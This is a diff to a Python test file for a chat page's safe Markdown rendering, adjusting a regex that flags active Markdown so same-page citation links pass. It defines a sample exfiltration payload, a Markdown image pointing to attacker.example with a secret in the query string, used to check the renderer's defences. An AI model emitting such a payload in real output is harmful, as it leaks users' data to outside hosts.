@@ -9,8 +9,9 @@ from components.safe_markdown import safe_markdown, safe_stream
 from tests.pages.test_chat import _ask, _assistant_text, _page  # noqa: F401 - the chat page harness
 
 EXFILTRATE = "![status](http://attacker.example/pixel.png?q=SECRET)"
-# What would make a browser fetch or follow something once rendered as Markdown.
-ACTIVE = re.compile(r"(?<!\\)!\s*\[|(?<!\\)\]\s*[(\[]")
+# What would make a browser fetch or follow something once rendered as Markdown. A citation marker's link to its
+# card on the same page (#gw-cite-…, components.safe_markdown.link_markers) fetches nothing and is allowed.
+ACTIVE = re.compile(r"(?<!\\)!\s*\[|(?<!\\)\]\s*[(\[](?!#gw-cite-[\w-]+\))")
 
 
 @pytest.mark.parametrize("text", [
